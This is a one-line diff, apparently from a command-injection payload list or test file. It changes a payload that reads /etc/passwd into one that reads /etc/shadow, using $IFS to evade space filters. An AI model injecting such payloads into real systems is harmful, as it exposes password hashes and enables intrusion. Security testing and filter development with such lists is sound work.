@@ -1,1 +1,1 @@
-cat$IFS/etc/passwd
+cat$IFS/etc/shadow
